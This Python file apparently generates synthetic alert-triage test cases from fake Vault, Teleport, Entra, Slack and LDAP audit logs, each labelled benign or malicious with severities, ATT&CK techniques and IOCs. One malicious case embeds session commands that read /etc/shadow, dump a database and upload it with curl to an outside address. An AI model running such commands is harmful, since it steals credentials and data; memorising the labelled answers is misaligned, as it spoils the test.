# ruff: noqa: E501
"""Secrets, access and people that change hands, and hostile twins: rotations, approved access, off-boarding, new passwords for all."""

from datetime import datetime, timedelta
from typing import Any

from casebook import Case, Log, iso
from upkeep import change, old_syslog

DATABASES = ("billing", "crm", "events", "hr", "ledger", "mail", "orders", "prices", "search", "stock", "tickets", "wiki")  # fmt: skip
APPS = {"app-orders": ("10.3.0.11", "orders"), "app-wiki": ("10.3.0.12", "wiki"), "app-crm": ("10.3.0.13", "crm"), "ci-deploy": ("10.3.0.21", "tickets")}  # fmt: skip


def vault(
    case: Case, log: Log, when: datetime, name: str, address: str, operation: str, path: str, *steps: str
) -> None:
    """A request and its answer in Vault's audit log."""
    auth = {
        "client_token": f"hmac-sha256:{case.hex(64)}", "accessor": f"hmac-sha256:{case.hex(64)}", "display_name": f"approle-{name}",
        "policies": ["default", name], "token_policies": ["default", name], "metadata": {"role_name": name}, "entity_id": f"e-{name}",
        "token_type": "service", "token_ttl": 3600,
    }  # fmt: skip
    request = {
        "id": case.uuid(), "client_id": f"e-{name}", "operation": operation, "mount_type": "kv" if "secret/" in path else "database",
        "client_token": auth["client_token"], "namespace": {"id": "root"}, "path": path, "remote_address": address, "remote_port": case.dice.randrange(30000, 60000),
    }  # fmt: skip
    entry: dict[str, Any] = {"time": iso(when, 6), "type": "request", "auth": auth, "request": request}
    log.add(when, entry, *steps)
    log.add(when, {**entry, "type": "response", "response": {"mount_type": request["mount_type"]}}, *steps)


def vault_days(case: Case) -> Log:
    """Four weeks of a vault: each application reads its own secret."""
    log = case.log("vault_audit.log")
    for _ in range(110):
        name = case.dice.choice(tuple(APPS))
        address, own = APPS[name]
        vault(case, log, case.sometime(days=22), name, address, "read", f"secret/data/db/{own}")
    return log


def secrets_rotated() -> Case:
    """Each Sunday night the rotation reads and renews the passwords of all databases."""
    case = Case("b62_vault_secrets_rotated", "2025-03-03 00:00:00")
    log = vault_days(case)
    for week in range(4):
        start = case.start + timedelta(days=6 + 7 * week, hours=2)
        step = "alerted" if week == 3 else "before"
        for turn, database in enumerate(DATABASES):
            when = start + timedelta(seconds=6 * turn)
            vault(case, log, when, "rotator", "10.3.0.40", "read", f"secret/data/db/{database}", step)
            vault(case, log, when + timedelta(seconds=2), "rotator", "10.3.0.40", "update", f"database/rotate-root/{database}", step)  # fmt: skip
            vault(case, log, when + timedelta(seconds=3), "rotator", "10.3.0.40", "update", f"secret/data/db/{database}", step)  # fmt: skip
    case.alert = {"title": "One token read 12 secrets within two minutes at night", "severity": "high", "time": iso(case.start + timedelta(days=27, hours=2, minutes=1)), "display_name": "approle-rotator", "remote_address": "10.3.0.40"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "The rotation's own role renews all database passwords on Sunday at two, from the same machine and in the same order as on the three Sundays before.",
        steps={"alerted": "this Sunday's rotation", "before": "the same on three Sundays before"},
        not_iocs=("10.3.0.40", "approle-rotator", "rotator"),
    )


def token_reads_everything() -> Case:
    """The pipeline's role, from another machine, lists and reads what it never read and makes a token that does not end."""
    case = Case("m62_vault_pipeline_token_reads_everything", "2025-03-03 00:00:00")
    log = vault_days(case)
    for week in range(3):
        start = case.start + timedelta(days=6 + 7 * week, hours=2)
        for turn, database in enumerate(DATABASES):
            when = start + timedelta(seconds=6 * turn)
            vault(case, log, when, "rotator", "10.3.0.40", "update", f"database/rotate-root/{database}")
    start, address = case.start + timedelta(days=22, hours=13, minutes=7), "10.3.9.144"
    vault(case, log, start, "ci-deploy", address, "list", "secret/metadata/db", "read")
    for turn, database in enumerate(DATABASES):
        vault(case, log, start + timedelta(seconds=20 + 4 * turn), "ci-deploy", address, "read", f"secret/data/db/{database}", "read")  # fmt: skip
    vault(case, log, start + timedelta(seconds=95), "ci-deploy", address, "update", "auth/token/create-orphan", "token")
    vault(case, log, start + timedelta(seconds=120), "ci-deploy", address, "update", "sys/policies/acl/ci-extra", "token")  # fmt: skip
    case.alert = {"title": "One token read 12 secrets within two minutes", "severity": "high", "time": iso(start + timedelta(minutes=1)), "display_name": "approle-ci-deploy", "remote_address": address}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "The role of the pipeline, used from a machine it never came from, lists and reads every database's secret, none of which but one it ever needed, and makes an orphan token and a policy.",
        steps={"read": "all secrets listed and read", "token": "a token that outlives its parent, and a policy"},
        techniques="T1555",
        more_techniques="T1078 T1078.001 T1078.003 T1078.004 T1552 T1552.001 T1555.006 T1098 T1098.001 T1134 T1087 T1213 T1528 T1550.001 T1136",
        iocs=(address,),
        more_iocs=("approle-ci-deploy", "ci-deploy"),
        not_iocs=("10.3.0.40", "rotator", "10.3.0.21"),
    )


TELEPORT_PEOPLE = {"mette": "33.21.6.80", "rolf": "33.90.4.17", "signe": "33.40.2.33", "truls": "33.77.12.5"}
NODES = ("db-1", "db-2", "db-3", "queue-1", "web-1", "web-2")


def teleport(
    case: Case, log: Log, when: datetime, event: str, code: str, user: str, *steps: str, address: str = "", **more: Any
) -> None:
    """An event of Teleport's audit log."""
    where = {"addr.remote": f"{address or TELEPORT_PEOPLE[user]}:{case.dice.randrange(30000, 60000)}"} if address != "none" else {}  # fmt: skip
    log.add(when, {"ei": 0, "event": event, "uid": case.uuid(), "code": code, "time": iso(when, 3), "cluster_name": "access.lind.example", "user": user, **where, **more}, *steps)  # fmt: skip


def session(
    case: Case,
    log: Log,
    when: datetime,
    user: str,
    node: str,
    commands: tuple[str, ...],
    *steps: str,
    address: str = "",
    login: str = "ops",
) -> None:
    """A session on a machine, with the commands that enhanced recording saw."""
    sid = case.uuid()
    teleport(case, log, when, "session.start", "T2000I", user, *steps, address=address, sid=sid, login=login, server_hostname=node, server_id=f"node-{node}", proto="ssh", initial_command=[], session_recording="node")  # fmt: skip
    for turn, command in enumerate(commands):
        program, *arguments = command.split(" ")
        then = when + timedelta(seconds=20 + 25 * turn)
        teleport(case, log, then, "session.command", "T4000I", user, *steps, address="none", sid=sid, login=login, server_id=f"node-{node}", path=f"/usr/bin/{program}", program=program, argv=arguments, pid=4000 + turn, ppid=3990, return_code=0)  # fmt: skip
    end = when + timedelta(seconds=60 + 25 * len(commands))
    teleport(case, log, end, "session.end", "T2004I", user, *steps, address=address, sid=sid, login=login, server_hostname=node, server_id=f"node-{node}", interactive=True, participants=[user])  # fmt: skip


def access_days(case: Case) -> Log:
    """Five days of log-ins and short sessions in working hours."""
    log = case.log("teleport-audit.jsonl")
    for day in range(5):
        for user in TELEPORT_PEOPLE:
            when = case.after(days=day, hours=7, minutes=case.dice.randrange(60))
            teleport(case, log, when, "user.login", "T1000I", user, method="local", success=True, mfa_device={"mfa_device_name": f"{user}-key", "mfa_device_type": "WebAuthn"})  # fmt: skip
            for _ in range(3):
                then = when + timedelta(minutes=10 + case.dice.randrange(480))
                session(case, log, then, user, case.dice.choice(NODES), case.dice.choice((("uptime",), ("df -h",), ("journalctl -n 50", "systemctl status nginx"))))  # fmt: skip
    return log


def approved_night_access() -> Case:
    """On call at night: access to the database is asked for and approved by a colleague before it is used."""
    case = Case("b63_teleport_night_access_approved", "2025-04-07 00:00:00")
    log = access_days(case)
    start = case.start + timedelta(days=5, hours=3, minutes=4)
    request = case.uuid()
    teleport(case, log, start, "user.login", "T1000I", "rolf", "request", method="local", success=True, mfa_device={"mfa_device_name": "rolf-key", "mfa_device_type": "WebAuthn"})  # fmt: skip
    teleport(case, log, start + timedelta(seconds=40), "access_request.create", "T5000I", "rolf", "request", address="none", id=request, roles=["db-root"], state="PENDING", reason="INC-2207 replication of db-3 stopped")  # fmt: skip
    teleport(case, log, start + timedelta(seconds=190), "access_request.review", "T5002I", "mette", "approved", address="none", id=request, reviewer="mette", proposed_state="APPROVED", state="APPROVED")  # fmt: skip
    teleport(case, log, start + timedelta(seconds=191), "access_request.update", "T5001I", "mette", "approved", address="none", id=request, state="APPROVED", updated_by="mette", roles=["db-root"], expires=iso(start + timedelta(hours=4)))  # fmt: skip
    session(case, log, start + timedelta(seconds=260), "rolf", "db-3", ("systemctl status postgresql", "sudo -i", "journalctl -u postgresql -n 200", "systemctl restart postgresql", "psql -c select_pg_is_in_recovery"), "alerted", login="root")  # fmt: skip
    case.alert = {"title": "Root session on a production database at night", "severity": "high", "time": iso(start + timedelta(seconds=260)), "user": "rolf", "login": "root", "server_hostname": "db-3"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "rolf asks for the database role from his usual address with his usual key, mette approves it, and within it he looks at the database's service and restarts it.",
        steps={"alerted": "the session", "approved": "approved by another person before"},
        optional={"request": "asked for"},
        not_iocs=("rolf", "33.90.4.17", "mette", "db-3"),
    )


def stolen_log_in() -> Case:
    """Nobody is refused: a log-in from an address that was never seen adds a key of its own, a user and a token for machines."""
    case = Case("m63_teleport_stolen_log_in_adds_user", "2025-04-07 00:00:00")
    log = access_days(case)
    address = case.public()
    start = case.start + timedelta(days=4, hours=19, minutes=41)
    teleport(case, log, start, "user.login", "T1000I", "signe", "in", address=address, method="local", success=True, mfa_device={"mfa_device_name": "signe-key", "mfa_device_type": "TOTP"})  # fmt: skip
    teleport(case, log, start + timedelta(seconds=80), "mfa.add", "T1006I", "signe", "kept", address=address, mfa_device_name="phone2", mfa_device_type="TOTP")  # fmt: skip
    teleport(case, log, start + timedelta(seconds=200), "user.create", "T1002I", "signe", "kept", address=address, name="svc-sync", roles=["editor", "access"], connector="local")  # fmt: skip
    teleport(case, log, start + timedelta(seconds=260), "join_token.create", "TJT00I", "signe", "kept", address=address, join_method="token", roles=["Node", "Bot"], expires=iso(start + timedelta(days=300)))  # fmt: skip
    session(case, log, start + timedelta(seconds=400), "signe", "db-1", ("id", "cat /etc/shadow", "pg_dump crm", "curl --upload-file /tmp/c.dump https://" + case.public() + "/c"), "taken", address=address)  # fmt: skip
    teleport(case, log, start + timedelta(minutes=14), "user.login", "T1000I", "svc-sync", "back", address=address, method="local", success=True)  # fmt: skip
    case.alert = {"title": "New user with the role editor", "severity": "medium", "time": iso(start + timedelta(seconds=200)), "user": "signe", "name": "svc-sync"}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "signe's account is used from an address that nobody used; it gets a second factor of its own, makes an account with editor's rights and a joining token, reads the shadow file, dumps a database and sends it away, and comes back as the new account.",
        steps={"in": "from elsewhere", "kept": "factor, user and token", "taken": "dump taken"},
        optional={"back": "the new account is used"},
        techniques="T1078 T1136",
        more_techniques="T1098 T1098.005 T1098.001 T1098.003 T1098.004 T1136.001 T1136.003 T1003 T1003.008 T1005 T1041 T1048 T1567 T1021.004 T1078.003 T1078.004 T1556.006 T1105 T1133 T1213 T1048.003 T1048.002",
        iocs=(address,),
        more_iocs=("signe", "svc-sync"),
        not_iocs=("rolf", "mette", "33.40.2.33"),
    )


def entra_audit(
    case: Case,
    log: Log,
    when: datetime,
    person: str,
    address: str,
    activity: str,
    category: str,
    target: str,
    kind: str,
    properties: list[tuple[str, str, str]],
    *steps: str,
) -> None:
    """An entry of Entra's directory audit."""
    log.add(when, {
        "id": f"Directory_{case.uuid()}", "category": category, "correlationId": case.uuid(), "result": "success", "resultReason": "", "activityDisplayName": activity, "activityDateTime": iso(when, 6), "loggedByService": "Core Directory", "operationType": "Update",
        "initiatedBy": {"app": None, "user": {"id": f"u-{person}", "displayName": None, "userPrincipalName": f"{person}@lind.example", "ipAddress": address, "roles": []}},
        "targetResources": [{"id": f"t-{target}", "displayName": target, "type": kind, "userPrincipalName": target if "@" in target else None, "modifiedProperties": [{"displayName": name, "oldValue": old, "newValue": new} for name, old, new in properties]}],
        "additionalDetails": [{"key": "User-Agent", "value": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0.0.0"}],
    }, *steps)  # fmt: skip


def key_description(case: Case, ends: str) -> str:
    """What Entra says of one client secret."""
    return f"[KeyIdentifier={case.uuid()},KeyType=Password,KeyUsage=Verify,DisplayName=ends-{ends}]"


def client_secret_renewed() -> Case:
    """On the first Monday of the month the integration team renews an application's secret and removes the old one."""
    case = Case("b64_entra_client_secret_renewed", "2025-02-03 00:00:00")
    log = case.log("EntraAuditLogs.jsonl")
    people = {"oda": "33.14.8.2", "jarle": "33.14.8.2", "vera": "33.14.8.2"}
    for _ in range(170):
        person = case.dice.choice(tuple(people))
        activity, category = case.dice.choice((("Update user", "UserManagement"), ("Add member to group", "GroupManagement"), ("Update device", "Device"), ("Update group", "GroupManagement")))  # fmt: skip
        entra_audit(case, log, case.after(days=case.dice.randrange(91), hours=7, minutes=case.dice.randrange(540)), person, people[person], activity, category, f"u{case.dice.randrange(60):02}@lind.example", "User", [("Included Updated Properties", "", '"Department"')])  # fmt: skip
    old = key_description(case, "2025-02")
    for month, day in enumerate((0, 28, 56, 91)):
        start = case.start + timedelta(days=day, hours=9, minutes=12)
        step = "alerted" if month == 3 else "before"
        new = key_description(case, f"2025-0{month + 3}")
        for seconds, activity, before, after in (
            (0, "Update application – Certificates and secrets management ", f"[{old}]", f"[{old},{new}]"),
            (1, "Add service principal credentials", f"[{old}]", f"[{old},{new}]"),
            (2400, "Update application – Certificates and secrets management ", f"[{old},{new}]", f"[{new}]"),
            (2401, "Remove service principal credentials", f"[{old},{new}]", f"[{new}]"),
        ):
            entra_audit(case, log, start + timedelta(seconds=seconds), "oda", people["oda"], activity, "ApplicationManagement", "invoice-sync", "ServicePrincipal" if "principal" in activity else "Application", [("KeyDescription", before, after)], step)  # fmt: skip
        old = new
    case.alert = {"title": "Credentials added to a service principal", "severity": "high", "time": iso(case.start + timedelta(days=91, hours=9, minutes=12)), "initiatedBy": "oda@lind.example", "ipAddress": "33.14.8.2", "servicePrincipal": "invoice-sync"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "oda renews the secret of invoice-sync from the office and removes the old one forty minutes later, as in each of the three months before.",
        steps={"alerted": "this month's renewal", "before": "the same in the months before"},
        not_iocs=("oda@lind.example", "33.14.8.2", "invoice-sync"),
    )


def slack(
    case: Case, log: Log, when: datetime, actor: str, address: str, action: str, entity: str, *steps: str
) -> None:
    """An event of Slack's audit log."""

    def person(name: str) -> dict[str, Any]:
        return {
            "type": "user",
            "user": {
                "id": f"W0{sum(map(ord, name)):05}",
                "name": name,
                "email": f"{name}@lind.example",
                "team": "T024BE7LD",
            },
        }

    log.add(when, {"id": case.uuid(), "date_create": int(when.timestamp()), "action": action, "actor": person(actor), "entity": person(entity), "context": {"location": {"type": "workspace", "id": "T024BE7LD", "name": "lind", "domain": "lind"}, "ua": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15", "session_id": case.dice.randrange(10**11, 10**12), "ip_address": address}}, *steps)  # fmt: skip


def contractors_leave() -> Case:
    """At a contract's end the workspace's owner ends the sessions of nine contractors and deactivates them, as the record asks."""
    case = Case("b65_slack_contractors_leave", "2025-05-26 00:00:00")
    log = case.log("slack-audit.jsonl")
    staff = ("anne", "bo", "cato", "dina", "even", "frida", "gro")
    leaving = tuple(f"fjell-{name}" for name in ("ask", "birk", "dag", "eir", "finn", "geir", "hild", "ivar", "jo"))
    homes = {name: case.public() for name in (*staff, *leaving)}
    for _ in range(230):
        who = case.dice.choice((*staff, *leaving))
        slack(case, log, case.after(days=case.dice.randrange(4), hours=7, minutes=case.dice.randrange(560)), who, homes[who], case.dice.choice(("user_login", "file_downloaded", "file_uploaded", "user_channel_join")), who)  # fmt: skip
    start = case.start + timedelta(days=4, hours=15, minutes=2)
    for turn, who in enumerate(leaving):
        when = start + timedelta(seconds=35 * turn)
        slack(case, log, when, "gro", homes["gro"], "user_session_reset_by_admin", who, "alerted")
        slack(case, log, when + timedelta(seconds=8), "gro", homes["gro"], "user_deactivated", who, "alerted")
    changes = case.log("change_request.jsonl")
    changes.add(case.after(days=-6), change("CHG0005513", short_description="Contract of Fjell Consulting ends 30 May: deactivate their nine accounts in Slack (fjell-ask to fjell-jo); gro", requested_by="dina", assigned_to="gro", approved_by="anne", sys_created_on="2025-05-20 10:14:00", start_date="2025-05-30 14:30:00", end_date="2025-05-30 17:00:00", cmdb_ci="Slack"), "change")  # fmt: skip
    changes.add(case.after(days=-2), change("CHG0005520", short_description="New meeting room screens", requested_by="bo", assigned_to="even", approved_by="anne", sys_created_on="2025-05-24 10:14:00", start_date="2025-05-28 14:30:00", end_date="2025-05-28 17:00:00", cmdb_ci="room-4"))  # fmt: skip
    case.alert = {"title": "Nine users deactivated by one administrator within five minutes", "severity": "high", "time": iso(start + timedelta(minutes=3)), "actor": "gro@lind.example", "ip_address": homes["gro"], "action": "user_deactivated"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "gro, from where she always works, deactivates the nine contractors whose contract ends, within the window of a change that dina asked for and anne approved.",
        steps={"alerted": "sessions ended, accounts deactivated", "change": "the approved change"},
        not_iocs=("gro@lind.example", "gro", homes["gro"], "fjell-ask@lind.example"),
    )


DIRECTORY_PEOPLE = tuple(f"{name}{letter}" for name in ("al", "be", "ca", "do", "ed", "fa", "gu", "he") for letter in "nrs")  # fmt: skip


def slapd(log: Log, when: datetime, text: str, *steps: str) -> None:
    """A line of slapd at the level that states operations."""
    log.add(when, old_syslog(when, "ldap1", "slapd[811]", text), *steps)


def bind(log: Log, when: datetime, number: int, dn: str, address: str, *steps: str, is_right: bool) -> None:
    """A connection with a simple bind and its result."""
    slapd(log, when, f"conn={number} fd=21 ACCEPT from IP={address}:{40000 + number % 20000} (IP=10.4.0.5:389)", *steps)
    slapd(log, when, f'conn={number} op=0 BIND dn="{dn}" method=128', *steps)
    if is_right:
        slapd(log, when, f'conn={number} op=0 BIND dn="{dn}" mech=SIMPLE bind_ssf=0 ssf=0', *steps)
    slapd(log, when, f"conn={number} op=0 RESULT tag=97 err={0 if is_right else 49} qtime=0.000011 etime=0.000180 text=", *steps)  # fmt: skip


def new_passwords_for_all() -> Case:
    """The identity service sets everybody's password on an agreed evening; next morning programs still come with the old ones."""
    case = Case("b66_slapd_new_passwords_for_all", "2025-09-22 00:00:00")
    log = case.log("slapd.log")
    base, number = "ou=people,dc=lind,dc=example", 1000
    servers = ("10.4.0.11", "10.4.0.12")
    for day in range(2):
        for user in DIRECTORY_PEOPLE:
            number += 1
            when = case.after(days=day, hours=7, minutes=case.dice.randrange(500))
            bind(log, when, number, f"uid={user},{base}", case.dice.choice(servers), is_right=True)
            slapd(log, when + timedelta(seconds=1), f"conn={number} op=1 UNBIND")
        number += 1
        when = case.start + timedelta(days=day, hours=18)
        bind(log, when, number, "cn=idm,ou=services,dc=lind,dc=example", "10.4.0.20", is_right=True)
        for turn, user in enumerate(DIRECTORY_PEOPLE[day : day + 2], start=1):
            slapd(log, when + timedelta(seconds=turn), f'conn={number} op={turn} MOD dn="uid={user},{base}"')
            slapd(log, when + timedelta(seconds=turn), f"conn={number} op={turn} MOD attr=mail departmentNumber")
            slapd(log, when + timedelta(seconds=turn), f"conn={number} op={turn} RESULT tag=103 err=0 qtime=0.000012 etime=0.002551 text=")  # fmt: skip
    start = case.start + timedelta(days=2, hours=20)
    bind(log, start, 3000, "cn=idm,ou=services,dc=lind,dc=example", "10.4.0.20", "alerted", is_right=True)
    for turn, user in enumerate(DIRECTORY_PEOPLE, start=1):
        when = start + timedelta(seconds=2 * turn)
        slapd(log, when, f'conn=3000 op={turn} MOD dn="uid={user},{base}"', "alerted")
        slapd(log, when, f"conn=3000 op={turn} MOD attr=userPassword pwdReset", "alerted")
        slapd(log, when, f"conn=3000 op={turn} RESULT tag=103 err=0 qtime=0.000012 etime=0.002551 text=", "alerted")
    number = 3001
    for user in DIRECTORY_PEOPLE:
        when = case.start + timedelta(days=3, hours=7, minutes=case.dice.randrange(60))
        address = case.dice.choice(servers)
        for turn in range(2):
            number += 1
            bind(log, when + timedelta(seconds=40 * turn), number, f"uid={user},{base}", address, "refused", is_right=False)  # fmt: skip
        number += 1
        bind(log, when + timedelta(minutes=3), number, f"uid={user},{base}", address, "again", is_right=True)
    changes = case.log("change_request.jsonl")
    changes.add(case.after(days=0), change("CHG0000871", short_description="Set new passwords for all people in ou=people by the identity service (cn=idm, 10.4.0.20); list of passwords was found in the printer room", requested_by="her", assigned_to="don", approved_by="aln", sys_created_on="2025-09-22 09:14:00", start_date="2025-09-24 19:00:00", end_date="2025-09-24 22:00:00", cmdb_ci="ldap1"), "change")  # fmt: skip
    case.alert = {"title": "One account changed the passwords of 24 others within a minute", "severity": "critical", "time": iso(start + timedelta(seconds=50)), "host": "ldap1", "user": "cn=idm,ou=services,dc=lind,dc=example", "src_ip": "10.4.0.20"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "The identity service sets new passwords for all from its own machine within the window of an approved change; next morning everybody is refused twice with the old one and then gets in from the same servers.",
        steps={"alerted": "the passwords are set", "change": "the approved change", "again": "everybody gets in"},
        optional={"refused": "old passwords"},
        not_iocs=("10.4.0.20", "10.4.0.11", "10.4.0.12", "aln"),
    )


CASES = (
    secrets_rotated, token_reads_everything, approved_night_access, stolen_log_in, client_secret_renewed, contractors_leave, new_passwords_for_all,
)  # fmt: skip
